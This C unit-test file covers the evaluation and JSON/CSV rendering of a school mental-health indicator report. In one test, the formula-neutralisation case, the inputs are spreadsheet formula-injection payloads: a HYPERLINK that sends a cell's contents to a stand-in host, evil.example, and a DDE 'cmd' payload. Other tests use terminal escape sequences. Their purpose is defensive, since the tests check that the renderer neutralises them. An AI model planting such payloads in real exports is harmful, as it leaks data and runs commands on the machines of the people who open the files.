/* test_report_render.c - row evaluation and the JSON and CSV renderings of the contract. */
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "common/buf.h"
#include "common/util.h"
#include "report/report.h"

static const struct report_target at_least_80 = {true, ">=", 0.8, true, 2025, 1.0};
static const struct report_target at_most_1000 = {true, "<=", 1000, false, 0, 0};
static const struct report_target at_least_10 = {true, ">=", 10, false, 0, 0};

static struct report_row make_row(const char *indicator, const char *district, const char *type,
                                  double numerator, double denominator)
{
    struct report_row row;
    memset(&row, 0, sizeof row);
    row.indicator = report_indicator_find(indicator);
    assert_true(row.indicator >= 0);
    assert_int_equal(util_strlcpy(row.district_code, district, sizeof row.district_code), 0);
    assert_int_equal(util_strlcpy(row.school_type, type, sizeof row.school_type), 0);
    row.has_numerator = true;
    row.numerator = numerator;
    row.has_denominator = true;
    row.denominator = denominator;
    return row;
}

static void test_evaluate_at_least(void **state)
{
    (void)state;
    struct report_row row = make_row("cert_a_coverage", "320102", "", 30, 37);
    report_row_evaluate(&row, &at_least_80);
    assert_true(row.has_value);
    assert_true(row.value == 30.0 / 37.0);
    assert_true(row.has_target);
    assert_true(row.target == 0.8);
    assert_string_equal(row.op, ">=");
    assert_string_equal(row.status, "met");
    assert_true(row.has_gap);
    assert_true(row.gap == 30.0 / 37.0 - 0.8);
    assert_true(row.gap > 0);

    row = make_row("cert_a_coverage", "320102", "", 29, 37);
    report_row_evaluate(&row, &at_least_80);
    assert_string_equal(row.status, "not_met");
    assert_true(row.gap < 0);
    assert_true(row.gap == 29.0 / 37.0 - 0.8);
}

static void test_evaluate_at_most(void **state)
{
    (void)state;
    /* Students per full-time teacher: lower is better, and the gap is target - value. */
    struct report_row row = make_row("students_per_fulltime", "", "", 9000, 10);
    report_row_evaluate(&row, &at_most_1000);
    assert_true(row.value == 900.0);
    assert_string_equal(row.op, "<=");
    assert_string_equal(row.status, "met");
    assert_true(row.gap == 100.0);

    row = make_row("students_per_fulltime", "", "", 53492, 15);
    report_row_evaluate(&row, &at_most_1000);
    assert_string_equal(row.status, "not_met");
    assert_true(row.gap == 1000.0 - 53492.0 / 15.0);
    assert_true(row.gap < 0);
}

static void test_evaluate_equality_meets(void **state)
{
    (void)state;
    /* 4/5 is the same double as the target 0.8: equal, so met, with a gap of zero. */
    struct report_row row = make_row("cert_a_coverage", "", "", 4, 5);
    report_row_evaluate(&row, &at_least_80);
    assert_string_equal(row.status, "met");
    assert_true(row.gap == 0.0);

    row = make_row("students_per_fulltime", "", "", 15000, 15);
    report_row_evaluate(&row, &at_most_1000);
    assert_string_equal(row.status, "met");
    assert_true(row.gap == 0.0);
}

static void test_evaluate_zero_denominator(void **state)
{
    (void)state;
    struct report_row row = make_row("students_per_fulltime", "", "", 53492, 0);
    row.value = 123; /* stale values must not survive */
    row.has_gap = true;
    report_row_evaluate(&row, &at_most_1000);
    assert_false(row.has_value);
    assert_string_equal(row.status, "no_data");
    assert_false(row.has_gap);
    /* The target is still shown next to the missing value. */
    assert_true(row.has_target);
    assert_true(row.target == 1000.0);
    assert_string_equal(row.op, "<=");

    row = make_row("cert_a_coverage", "", "", 0, 0);
    row.has_numerator = false;
    report_row_evaluate(&row, &at_least_80);
    assert_false(row.has_value);
    assert_string_equal(row.status, "no_data");

    row = make_row("cert_a_coverage", "", "", 3, 4);
    row.has_denominator = false;
    report_row_evaluate(&row, &at_least_80);
    assert_false(row.has_value);
    assert_string_equal(row.status, "no_data");

    /* No value and no target: the missing data is what the reader must see. */
    row = make_row("crisis_rate_per_10k", "", "", 0, 0);
    report_row_evaluate(&row, NULL);
    assert_string_equal(row.status, "no_data");
    assert_false(row.has_target);
}

static void test_evaluate_no_target(void **state)
{
    (void)state;
    struct report_row row = make_row("crisis_rate_per_10k", "", "", 30000, 53492);
    report_row_evaluate(&row, NULL);
    assert_true(row.has_value);
    assert_string_equal(row.status, "no_target");
    assert_false(row.has_target);
    assert_string_equal(row.op, "");
    assert_false(row.has_gap);

    struct report_target unset;
    memset(&unset, 0, sizeof unset);
    unset.value = 5;
    memcpy(unset.op, ">=", 3);
    row = make_row("crisis_rate_per_10k", "", "", 1, 2);
    report_row_evaluate(&row, &unset);
    assert_string_equal(row.status, "no_target");
    assert_false(row.has_target);
    assert_string_equal(row.op, "");
    assert_false(row.has_gap);
}

/* The small document whose exact rendering the tests below pin down. */
struct sample {
    struct report_overview overview[1];
    struct report_row rows[4];
    struct report_doc doc;
};

static void make_sample(struct sample *s)
{
    memset(s, 0, sizeof *s);
    struct report_overview ov = {"320102", "", 39, 38, 53492, 15, 292, 39, 32};
    s->overview[0] = ov;
    s->rows[0] = make_row("cert_a_coverage", "320102", "", 30, 37);
    s->rows[0].schools = 1;
    report_row_evaluate(&s->rows[0], &at_least_80);
    s->rows[1] = make_row("students_per_fulltime", "", "primary", 53492, 0);
    s->rows[1].schools = 3;
    s->rows[1].schools_no_data = 1;
    report_row_evaluate(&s->rows[1], &at_most_1000);
    s->rows[2] = make_row("crisis_rate_per_10k", "", "", 30000, 53492);
    s->rows[2].schools = 39;
    report_row_evaluate(&s->rows[2], NULL);
    s->rows[3] = make_row("funding_per_student", "320102", "junior", 12345.5, 1000);
    s->rows[3].schools = 7;
    report_row_evaluate(&s->rows[3], &at_least_10);
    s->doc.kind = "indicators";
    s->doc.year = 2024;
    s->doc.period = NULL;
    assert_int_equal(
        util_strlcpy(s->doc.generated_at, "2025-01-21T02:00:00+08:00", sizeof s->doc.generated_at),
        0);
    s->doc.rows = s->rows;
    s->doc.nrows = 4;
    s->doc.overview = s->overview;
    s->doc.noverview = 1;
}

static const char expected_json[] = "{\n"
                                    "  \"report\": \"indicators\",\n"
                                    "  \"scope\": {\n"
                                    "    \"year\": 2024\n"
                                    "  },\n"
                                    "  \"generated_at\": \"2025-01-21T02:00:00+08:00\",\n"
                                    "  \"overview\": [\n"
                                    "    {\n"
                                    "      \"district_code\": \"320102\",\n"
                                    "      \"school_type\": null,\n"
                                    "      \"schools_active\": 39,\n"
                                    "      \"schools_reported\": 38,\n"
                                    "      \"students\": 53492,\n"
                                    "      \"psych_fulltime\": 15,\n"
                                    "      \"psych_parttime\": 292,\n"
                                    "      \"schools_with_room\": 39,\n"
                                    "      \"schools_with_lessons\": 32\n"
                                    "    }\n"
                                    "  ],\n"
                                    "  \"rows\": [\n"
                                    "    {\n"
                                    "      \"indicator\": \"cert_a_coverage\",\n"
                                    "      \"district_code\": \"320102\",\n"
                                    "      \"school_type\": null,\n"
                                    "      \"numerator\": 30,\n"
                                    "      \"denominator\": 37,\n"
                                    "      \"value\": 0.810810810810811,\n"
                                    "      \"target\": 0.8,\n"
                                    "      \"op\": \">=\",\n"
                                    "      \"status\": \"met\",\n"
                                    "      \"gap\": 0.0108108108108108,\n"
                                    "      \"schools\": 1,\n"
                                    "      \"schools_no_data\": 0\n"
                                    "    },\n"
                                    "    {\n"
                                    "      \"indicator\": \"students_per_fulltime\",\n"
                                    "      \"district_code\": null,\n"
                                    "      \"school_type\": \"primary\",\n"
                                    "      \"numerator\": 53492,\n"
                                    "      \"denominator\": 0,\n"
                                    "      \"value\": null,\n"
                                    "      \"target\": 1000.0,\n"
                                    "      \"op\": \"<=\",\n"
                                    "      \"status\": \"no_data\",\n"
                                    "      \"gap\": null,\n"
                                    "      \"schools\": 3,\n"
                                    "      \"schools_no_data\": 1\n"
                                    "    },\n"
                                    "    {\n"
                                    "      \"indicator\": \"crisis_rate_per_10k\",\n"
                                    "      \"district_code\": null,\n"
                                    "      \"school_type\": null,\n"
                                    "      \"numerator\": 30000,\n"
                                    "      \"denominator\": 53492,\n"
                                    "      \"value\": 0.560831526209527,\n"
                                    "      \"target\": null,\n"
                                    "      \"op\": null,\n"
                                    "      \"status\": \"no_target\",\n"
                                    "      \"gap\": null,\n"
                                    "      \"schools\": 39,\n"
                                    "      \"schools_no_data\": 0\n"
                                    "    },\n"
                                    "    {\n"
                                    "      \"indicator\": \"funding_per_student\",\n"
                                    "      \"district_code\": \"320102\",\n"
                                    "      \"school_type\": \"junior\",\n"
                                    "      \"numerator\": 12345.5,\n"
                                    "      \"denominator\": 1000,\n"
                                    "      \"value\": 12.3455,\n"
                                    "      \"target\": 10.0,\n"
                                    "      \"op\": \">=\",\n"
                                    "      \"status\": \"met\",\n"
                                    "      \"gap\": 2.3455,\n"
                                    "      \"schools\": 7,\n"
                                    "      \"schools_no_data\": 0\n"
                                    "    }\n"
                                    "  ]\n"
                                    "}\n";

static void test_json_exact_text(void **state)
{
    (void)state;
    struct sample s;
    make_sample(&s);
    buf out = BUF_INIT;
    assert_int_equal(report_render_json(&s.doc, &out), 0);
    assert_string_equal(out.data, expected_json);
    assert_int_equal(out.len, strlen(expected_json));

    /* Same doc, same bytes; and the rendering is appended to what out holds. */
    buf again = BUF_INIT;
    assert_int_equal(buf_puts(&again, "prefix|"), 0);
    assert_int_equal(report_render_json(&s.doc, &again), 0);
    assert_int_equal(again.len, out.len + 7);
    assert_memory_equal(again.data, "prefix|", 7);
    assert_memory_equal(again.data + 7, out.data, out.len);
    buf_free(&out);
    buf_free(&again);
}

static json_t *row_at(json_t *root, size_t i)
{
    json_t *row = json_array_get(json_object_get(root, "rows"), i);
    assert_non_null(row);
    return row;
}

static void test_json_parsed_back(void **state)
{
    (void)state;
    struct sample s;
    make_sample(&s);
    buf out = BUF_INIT;
    assert_int_equal(report_render_json(&s.doc, &out), 0);
    json_error_t jerr;
    json_t *root = json_loadb(out.data, out.len, JSON_REJECT_DUPLICATES, &jerr);
    if (root == NULL)
        fail_msg("line %d: %s", jerr.line, jerr.text);

    assert_string_equal(json_string_value(json_object_get(root, "report")), "indicators");
    json_t *scope = json_object_get(root, "scope");
    assert_int_equal(json_object_size(scope), 1);
    assert_true(json_is_integer(json_object_get(scope, "year")));
    assert_int_equal(json_integer_value(json_object_get(scope, "year")), 2024);
    assert_int_equal(json_array_size(json_object_get(root, "rows")), 4);

    json_t *ov = json_array_get(json_object_get(root, "overview"), 0);
    assert_string_equal(json_string_value(json_object_get(ov, "district_code")), "320102");
    assert_true(json_is_null(json_object_get(ov, "school_type")));
    assert_true(json_is_integer(json_object_get(ov, "students")));
    assert_int_equal(json_integer_value(json_object_get(ov, "psych_parttime")), 292);

    json_t *row = row_at(root, 0);
    assert_int_equal(json_object_size(row), 12);
    assert_string_equal(json_string_value(json_object_get(row, "indicator")), "cert_a_coverage");
    assert_true(json_is_null(json_object_get(row, "school_type")));
    assert_true(json_is_integer(json_object_get(row, "numerator")));
    assert_int_equal(json_integer_value(json_object_get(row, "numerator")), 30);
    assert_true(json_is_integer(json_object_get(row, "denominator")));
    assert_true(json_is_real(json_object_get(row, "value")));
    assert_true(fabs(json_real_value(json_object_get(row, "value")) - 30.0 / 37.0) < 1e-14);
    assert_true(json_is_real(json_object_get(row, "target")));
    assert_string_equal(json_string_value(json_object_get(row, "op")), ">=");
    assert_string_equal(json_string_value(json_object_get(row, "status")), "met");
    assert_true(fabs(json_real_value(json_object_get(row, "gap")) - (30.0 / 37.0 - 0.8)) < 1e-14);

    row = row_at(root, 1);
    assert_true(json_is_null(json_object_get(row, "district_code")));
    assert_string_equal(json_string_value(json_object_get(row, "school_type")), "primary");
    assert_true(json_is_null(json_object_get(row, "value")));
    assert_true(json_is_null(json_object_get(row, "gap")));
    /* A whole-number target is still a real, so readers can take every target as one. */
    assert_true(json_is_real(json_object_get(row, "target")));
    assert_true(json_real_value(json_object_get(row, "target")) == 1000.0);
    assert_string_equal(json_string_value(json_object_get(row, "status")), "no_data");
    assert_int_equal(json_integer_value(json_object_get(row, "schools_no_data")), 1);

    row = row_at(root, 2);
    assert_true(json_is_null(json_object_get(row, "target")));
    assert_true(json_is_null(json_object_get(row, "op")));
    assert_true(json_is_null(json_object_get(row, "gap")));
    assert_string_equal(json_string_value(json_object_get(row, "status")), "no_target");

    row = row_at(root, 3);
    assert_true(json_is_real(json_object_get(row, "numerator")));
    assert_true(json_real_value(json_object_get(row, "numerator")) == 12345.5);
    assert_true(json_is_integer(json_object_get(row, "denominator")));
    json_decref(root);
    buf_free(&out);
}

static void test_json_period_scope_and_empty(void **state)
{
    (void)state;
    struct report_doc doc;
    memset(&doc, 0, sizeof doc);
    doc.kind = "indicators";
    doc.year = 2024; /* ignored: a term report is scoped by its period */
    doc.period = "2024-2025-1";
    assert_int_equal(
        util_strlcpy(doc.generated_at, "2025-01-21T02:00:00+08:00", sizeof doc.generated_at), 0);
    buf out = BUF_INIT;
    assert_int_equal(report_render_json(&doc, &out), 0);
    assert_string_equal(out.data, "{\n"
                                  "  \"report\": \"indicators\",\n"
                                  "  \"scope\": {\n"
                                  "    \"period\": \"2024-2025-1\"\n"
                                  "  },\n"
                                  "  \"generated_at\": \"2025-01-21T02:00:00+08:00\",\n"
                                  "  \"overview\": [],\n"
                                  "  \"rows\": []\n"
                                  "}\n");
    buf_free(&out);
}

static void test_json_number_edges(void **state)
{
    (void)state;
    struct report_row row = make_row("funding_per_student", "", "", -0.0, 1e15);
    row.has_value = true;
    row.value = -0.0;
    row.status = "no_target";
    struct report_doc doc;
    memset(&doc, 0, sizeof doc);
    doc.kind = "indicators";
    doc.year = 2024;
    doc.rows = &row;
    doc.nrows = 1;
    buf out = BUF_INIT;
    assert_int_equal(report_render_json(&doc, &out), 0);
    /* Negative zero reads as zero; a large whole count stays an integer. */
    assert_non_null(strstr(out.data, "\"numerator\": 0,\n"));
    assert_non_null(strstr(out.data, "\"denominator\": 1000000000000000,\n"));
    assert_non_null(strstr(out.data, "\"value\": 0.0,\n"));
    /* An empty generated_at is null rather than "". */
    assert_non_null(strstr(out.data, "\"generated_at\": null,\n"));
    buf_free(&out);
}

static void test_render_refuses_unknown_indicator(void **state)
{
    (void)state;
    struct sample s;
    make_sample(&s);
    s.rows[2].indicator = REPORT_NINDICATORS;
    buf out = BUF_INIT;
    assert_int_equal(buf_puts(&out, "kept"), 0);
    assert_int_equal(report_render_json(&s.doc, &out), -1);
    assert_string_equal(out.data, "kept");
    assert_int_equal(report_render_csv(&s.doc, &out), -1);
    assert_string_equal(out.data, "kept");
    assert_int_equal(out.len, 4);
    buf_free(&out);
}

#define BOM "\xEF\xBB\xBF"
#define CSV_HEADER                                                                                            \
    "指标 indicator,指标名称 indicator_name,区县代码 district_code,区县名称 district_name,"     \
    "学校类型 school_type,学校类型名称 school_type_name,分子 numerator,"                          \
    "分母 denominator,值 value,目标 target,比较 op,状态 status,达标情况 status_name,差距 gap," \
    "学校数 schools,无数据学校数 schools_no_data\r\n"

static void test_csv_exact_text(void **state)
{
    (void)state;
    struct sample s;
    make_sample(&s);
    buf out = BUF_INIT;
    assert_int_equal(report_render_csv(&s.doc, &out), 0);
    assert_string_equal(
        out.data, BOM CSV_HEADER
        "cert_a_coverage,专兼职心理教师A证持证率,320102,,,,30,37,0.810810810810811,0.8,>=,met,"
        "达标,0.0108108108108108,1,0\r\n"
        "students_per_fulltime,专职心理教师生师比,,,primary,小学,53492,0,,1000.0,<=,no_data,"
        "无数据,,3,1\r\n"
        "crisis_rate_per_10k,每万名学生心理危机事件数,,,,,30000,53492,0.560831526209527,,,"
        "no_target,无目标,,39,0\r\n"
        "funding_per_student,生均心理健康经费(元/年),320102,,junior,初中,12345.5,1000,12.3455,"
        "10.0,>=,met,达标,2.3455,7,0\r\n");
    /* The BOM once, at the very start; every line ends in CRLF, no bare LF anywhere. */
    assert_memory_equal(out.data, BOM, 3);
    assert_null(strstr(out.data + 3, BOM));
    for (size_t i = 0; i < out.len; i++) {
        if (out.data[i] == '\n')
            assert_true(i > 0 && out.data[i - 1] == '\r');
    }

    buf again = BUF_INIT;
    assert_int_equal(report_render_csv(&s.doc, &again), 0);
    assert_int_equal(again.len, out.len);
    assert_memory_equal(again.data, out.data, out.len);
    buf_free(&out);
    buf_free(&again);
}

static void test_csv_quoting(void **state)
{
    (void)state;
    struct report_row row = make_row("room_rate", "32,01", "a\"b\nc", 1, 2);
    report_row_evaluate(&row, NULL);
    struct report_doc doc;
    memset(&doc, 0, sizeof doc);
    doc.kind = "indicators";
    doc.rows = &row;
    doc.nrows = 1;
    buf out = BUF_INIT;
    assert_int_equal(report_render_csv(&doc, &out), 0);
    assert_string_equal(out.data, BOM CSV_HEADER
                        "room_rate,心理辅导室建设率,\"32,01\",,\"a\"\"b\nc\",,1,2,0.5,,,"
                        "no_target,无目标,,0,0\r\n");
    buf_free(&out);
}

/* A text cell only (a number never comes here): its bytes as report_csv_text writes them. */
static char *csv_cell(const char *s, size_t len)
{
    buf out = BUF_INIT;
    assert_int_equal(report_csv_text(&out, s, len), 0);
    return out.data != NULL ? buf_steal(&out) : strdup("");
}

/* OWASP's rule: a text a spreadsheet would run as a formula is led by a '; numbers stay. */
static void test_csv_formula_neutralised(void **state)
{
    (void)state;
    static const struct {
        const char *in, *want;
    } cases[] = {
        {"=HYPERLINK(\"http://evil.example/\"&A1,\"fix\")",
         "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"fix\"\")\""},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3", "'-2+3"},
        {"@SUM(1+1)", "'@SUM(1+1)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "\"'\r=1\""}, /* a line break is quoted */
        {"\xEF\xBC\x9D"
         "1+1",
         "'\xEF\xBC\x9D"
         "1+1"}, /* full-width ＝ */
        {"a=b", "a=b"},
        {"玄武区示范小学", "玄武区示范小学"},
        {"", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *got = csv_cell(cases[i].in, strlen(cases[i].in));
        assert_string_equal(got, cases[i].want);
        free(got);
    }
    /* a negative number is a number: no quote, no ' */
    buf out = BUF_INIT;
    json_t *gap = json_real(-0.5);
    assert_int_equal(report_csv_value(&out, gap), 0);
    assert_string_equal(out.data, "-0.5");
    json_decref(gap);
    json_t *text = json_string("-0.5");
    buf_reset(&out);
    assert_int_equal(report_csv_value(&out, text), 0);
    assert_string_equal(out.data, "'-0.5");
    json_decref(text);
    buf_free(&out);
}

/* A file name with an escape sequence reaches a CSV as visible text, never as the bytes. */
static void test_csv_control_characters(void **state)
{
    (void)state;
    char *got = csv_cell("\x1b[2Jevil.json", 13);
    assert_string_equal(got, "\\x1b[2Jevil.json");
    free(got);
    got = csv_cell("a\x7f"
                   "b\xc2\x9b"
                   "c\xff"
                   "d",
                   8);
    assert_string_equal(got, "a\\x7fb\\u009bc\\xffd");
    free(got);
    got = csv_cell("a\0b", 3);
    assert_string_equal(got, "a\\x00b");
    free(got);
    /* line breaks are text of a quoted cell (RFC 4180), as they were */
    got = csv_cell("a\nb", 3);
    assert_string_equal(got, "\"a\nb\"");
    free(got);
}

/* The shared escaping: what a terminal shows, and what an HTML page shows. */
static void test_printable_and_html(void **state)
{
    (void)state;
    buf b = BUF_INIT;
    const char in[] = "\x1b[2J\t\n\r\x01\x7f\xc2\x9b\xc3\xa9\xe7\x8e\x84\xff\\";
    assert_false(buf_is_printable(in, sizeof in - 1));
    assert_int_equal(buf_printable(&b, in, sizeof in - 1), 0);
    assert_string_equal(b.data, "\\x1b[2J\\t\\n\\r\\x01\\x7f\\u009b\xc3\xa9\xe7\x8e\x84\\xff\\");
    assert_true(buf_is_printable(b.data, b.len));
    assert_true(buf_is_printable_lines("a\tb\r\nc", 6));
    assert_false(buf_is_printable_lines("a\x1b", 2));
    buf_reset(&b);
    assert_string_equal(buf_printable_str(&b, "x\x1by"), "x\\x1by");
    buf_reset(&b);
    assert_int_equal(buf_html_escape(&b, "<\x1b[2J>\t&\xff\xe7\x8e\x84", 12), 0);
    assert_string_equal(b.data, "&lt;\\x1b[2J&gt; &amp;\\xff\xe7\x8e\x84");
    buf_free(&b);
}

/* The CSV header names the JSON row keys, in the same order, and the district's name. */
static void test_csv_columns_are_json_keys(void **state)
{
    (void)state;
    struct sample s;
    make_sample(&s);
    buf json = BUF_INIT, csv = BUF_INIT;
    assert_int_equal(report_render_json(&s.doc, &json), 0);
    assert_int_equal(report_render_csv(&s.doc, &csv), 0);
    json_t *root = json_loads(json.data, 0, NULL);
    assert_non_null(root);
    const char *cell = csv.data + 3;
    const char *key;
    json_t *value;
    size_t n = 0;
    json_object_foreach(row_at(root, 0), key, value)
    {
        (void)value;
        const char *space = strchr(cell, ' ');
        assert_non_null(space);
        size_t len = strcspn(space + 1, ",\r");
        assert_int_equal(len, strlen(key));
        assert_memory_equal(space + 1, key, len);
        cell = space + 1 + len + 1;
        n++;
        /* the words beside codes follow them in the CSV only (a person reads them) */
        static const struct {
            const char *key, *next;
        } beside[] = {{"indicator", "指标名称 indicator_name,"},
                      {"district_code", "区县名称 district_name,"},
                      {"school_type", "学校类型名称 school_type_name,"},
                      {"status", "达标情况 status_name,"}};
        for (size_t b = 0; b < sizeof beside / sizeof beside[0]; b++) {
            if (strcmp(key, beside[b].key) == 0) {
                assert_memory_equal(cell, beside[b].next, strlen(beside[b].next));
                cell += strlen(beside[b].next);
            }
        }
    }
    assert_int_equal(n, 12);
    assert_memory_equal(cell - 1, "\r\n", 2);
    json_decref(root);
    buf_free(&json);
    buf_free(&csv);
}

static void test_overview_csv(void **state)
{
    (void)state;
    struct sample s;
    make_sample(&s);
    struct report_overview ov[2] = {s.overview[0], {"", "special", 1, 0, 0, 0, 0, 0, 0}};
    s.doc.overview = ov;
    s.doc.noverview = 2;
    buf out = BUF_INIT;
    assert_int_equal(report_render_overview_csv(&s.doc, &out), 0);
    assert_string_equal(out.data, BOM "区县代码 district_code,区县名称 district_name,"
                                      "学校类型 school_type,学校类型名称 school_type_name,"
                                      "在册学校数 schools_active,已上报学校数 schools_reported,"
                                      "在校学生数 students,专职心理教师数 psych_fulltime,"
                                      "兼职心理教师数 psych_parttime,"
                                      "建有辅导室学校数 schools_with_room,"
                                      "开设心理课学校数 schools_with_lessons\r\n"
                                      "320102,,,,39,38,53492,15,292,39,32\r\n"
                                      ",,special,特殊教育学校,1,0,0,0,0,0,0\r\n");
    buf_free(&out);
}

/* A city-sized document in report order: every indicator, the city and 60 districts over all
 * types, then three types with the city and 20 districts each; a few rows without data. */
#define BIG_DISTRICTS 60
static size_t make_big_rows(struct report_row *rows)
{
    static const char *const types[] = {"junior", "primary", "senior"};
    size_t n = 0;
    for (int i = 0; i < REPORT_NINDICATORS; i++) {
        for (int t = -1; t < 3; t++) {
            int districts = t < 0 ? BIG_DISTRICTS : 20;
            for (int d = -1; d < districts; d++) {
                char code[8] = "";
                if (d >= 0)
                    snprintf(code, sizeof code, "3201%02d", d);
                struct report_row r =
                    make_row(report_indicators[i].id, code, t < 0 ? "" : types[t],
                             (double)((n * 37) % 1000) + (i == 17 ? 0.25 : 0), 1000 + (double)d);
                r.has_denominator = (n % 29) != 0;
                r.schools = (long)(n % 50);
                r.schools_no_data = (long)(n % 7);
                report_row_evaluate(&r, i % 3 == 0 ? NULL : &at_least_80);
                rows[n++] = r;
            }
        }
    }
    return n;
}
#define BIG_ROWS (REPORT_NINDICATORS * (1 + BIG_DISTRICTS + 3 * 21))

/* A sink that appends to a buf and remembers the largest piece and how many came. */
struct pieces {
    buf all;
    size_t largest, count;
};

static int pieces_write(void *ctx, const char *data, size_t len)
{
    struct pieces *p = ctx;
    if (len > p->largest)
        p->largest = len;
    p->count++;
    return buf_append(&p->all, data, len);
}

static int failing_write(void *ctx, const char *data, size_t len)
{
    (void)data;
    (void)len;
    int *calls = ctx;
    (*calls)++;
    return -1;
}

/* The streamed document is exactly what jansson writes for the whole tree at once. */
static void test_stream_json_is_the_whole_tree(void **state)
{
    (void)state;
    static struct report_row rows[BIG_ROWS];
    struct sample s;
    make_sample(&s);
    s.doc.rows = rows;
    s.doc.nrows = make_big_rows(rows);
    assert_int_equal(s.doc.nrows, BIG_ROWS);
    buf out = BUF_INIT;
    assert_int_equal(report_render_json(&s.doc, &out), 0);
    assert_true(out.len > 4 * REPORT_SINK_CHUNK);
    json_error_t err;
    json_t *root = json_loadb(out.data, out.len, 0, &err);
    assert_non_null(root);
    char *whole = json_dumps(root, JSON_INDENT(2) | JSON_PRESERVE_ORDER | JSON_REAL_PRECISION(15));
    assert_non_null(whole);
    assert_int_equal(strlen(whole) + 1, out.len);
    assert_memory_equal(whole, out.data, out.len - 1);
    assert_int_equal(out.data[out.len - 1], '\n');
    free(whole);
    json_decref(root);
    buf_free(&out);
}

/* Rows read back from a spool give the same bytes in every format as rows in memory. */
static void test_spool_renders_the_same(void **state)
{
    (void)state;
    static struct report_row rows[BIG_ROWS];
    struct sample mem, spooled;
    make_sample(&mem);
    make_sample(&spooled);
    mem.doc.rows = rows;
    mem.doc.nrows = make_big_rows(rows);
    struct report_spool *sp = report_spool_new();
    assert_non_null(sp);
    for (size_t i = 0; i < mem.doc.nrows; i++)
        assert_int_equal(report_spool_add(sp, &rows[i]), 0);
    assert_int_equal(report_spool_count(sp), mem.doc.nrows);
    spooled.doc.rows = NULL;
    spooled.doc.nrows = 0;
    spooled.doc.spool = sp;

    int (*renders[])(const struct report_doc *, buf *) = {report_render_json, report_render_csv};
    for (size_t k = 0; k < 2; k++) {
        buf a = BUF_INIT, b = BUF_INIT;
        assert_int_equal(renders[k](&mem.doc, &a), 0);
        assert_int_equal(renders[k](&spooled.doc, &b), 0);
        assert_int_equal(a.len, b.len);
        assert_memory_equal(a.data, b.data, a.len);
        buf_free(&a);
        buf_free(&b);
    }
    const char *langs[] = {"zh", "en"};
    for (size_t k = 0; k < 2; k++) {
        buf a = BUF_INIT;
        struct pieces p = {BUF_INIT, 0, 0};
        struct report_sink sink = {pieces_write, &p};
        assert_int_equal(report_render_html(&mem.doc, langs[k], &a), 0);
        assert_int_equal(report_stream_html(&spooled.doc, langs[k], &sink), 0);
        assert_int_equal(a.len, p.all.len);
        assert_memory_equal(a.data, p.all.data, a.len);
        /* handed over in chunks, none much larger than one */
        assert_true(p.count > 2);
        assert_true(p.largest < REPORT_SINK_CHUNK + 4096);
        buf_free(&a);
        buf_free(&p.all);
    }
    struct pieces p = {BUF_INIT, 0, 0};
    struct report_sink sink = {pieces_write, &p};
    assert_int_equal(report_stream_json(&spooled.doc, &sink), 0);
    assert_true(p.count > 2);
    assert_true(p.largest < REPORT_SINK_CHUNK + 4096);
    buf_free(&p.all);

    /* one indicator's rows alone, from the middle of the file */
    struct report_rows_iter it;
    const struct report_row *r;
    size_t n = 0;
    report_rows_begin(&it, &spooled.doc, 5);
    while ((r = report_rows_next(&it)) != NULL) {
        assert_int_equal(r->indicator, 5);
        assert_memory_equal(r, &rows[5 * (BIG_ROWS / REPORT_NINDICATORS) + n], sizeof *r);
        n++;
    }
    assert_false(report_rows_failed(&it));
    assert_int_equal(n, BIG_ROWS / REPORT_NINDICATORS);
    report_spool_free(sp);
}

static void test_spool_refuses_disorder_and_sink_failure(void **state)
{
    (void)state;
    struct report_spool *sp = report_spool_new();
    assert_non_null(sp);
    struct report_row a = make_row("crisis_rate_per_10k", "", "", 1, 2);
    struct report_row b = make_row("cert_a_coverage", "", "", 1, 2);
    report_row_evaluate(&a, NULL);
    report_row_evaluate(&b, NULL);
    assert_int_equal(report_spool_add(sp, &a), 0);
    assert_int_equal(report_spool_add(sp, &b), -1);
    /* a spool that failed cannot be rendered */
    struct sample s;
    make_sample(&s);
    s.doc.rows = NULL;
    s.doc.nrows = 0;
    s.doc.spool = sp;
    buf out = BUF_INIT;
    assert_int_equal(report_render_json(&s.doc, &out), -1);
    assert_int_equal(report_render_csv(&s.doc, &out), -1);
    assert_int_equal(report_render_html(&s.doc, "zh", &out), -1);
    assert_int_equal(out.len, 0);
    report_spool_free(sp);

    /* an empty spool is an empty report */
    sp = report_spool_new();
    assert_non_null(sp);
    s.doc.spool = sp;
    assert_int_equal(report_render_json(&s.doc, &out), 0);
    assert_non_null(strstr(out.data, "\"rows\": []\n}\n"));
    report_spool_free(sp);
    buf_free(&out);

    /* a sink that fails stops the rendering at its first piece */
    make_sample(&s);
    int calls = 0;
    struct report_sink sink = {failing_write, &calls};
    assert_int_equal(report_stream_json(&s.doc, &sink), -1);
    assert_int_equal(calls, 1);
    calls = 0;
    assert_int_equal(report_stream_csv(&s.doc, &sink), -1);
    assert_int_equal(calls, 1);
    calls = 0;
    assert_int_equal(report_stream_html(&s.doc, "en", &sink), -1);
    assert_int_equal(calls, 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_evaluate_at_least),
        cmocka_unit_test(test_evaluate_at_most),
        cmocka_unit_test(test_evaluate_equality_meets),
        cmocka_unit_test(test_evaluate_zero_denominator),
        cmocka_unit_test(test_evaluate_no_target),
        cmocka_unit_test(test_json_exact_text),
        cmocka_unit_test(test_json_parsed_back),
        cmocka_unit_test(test_json_period_scope_and_empty),
        cmocka_unit_test(test_json_number_edges),
        cmocka_unit_test(test_render_refuses_unknown_indicator),
        cmocka_unit_test(test_csv_exact_text),
        cmocka_unit_test(test_csv_quoting),
        cmocka_unit_test(test_csv_formula_neutralised),
        cmocka_unit_test(test_csv_control_characters),
        cmocka_unit_test(test_printable_and_html),
        cmocka_unit_test(test_csv_columns_are_json_keys),
        cmocka_unit_test(test_overview_csv),
        cmocka_unit_test(test_stream_json_is_the_whole_tree),
        cmocka_unit_test(test_spool_renders_the_same),
        cmocka_unit_test(test_spool_refuses_disorder_and_sink_failure),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
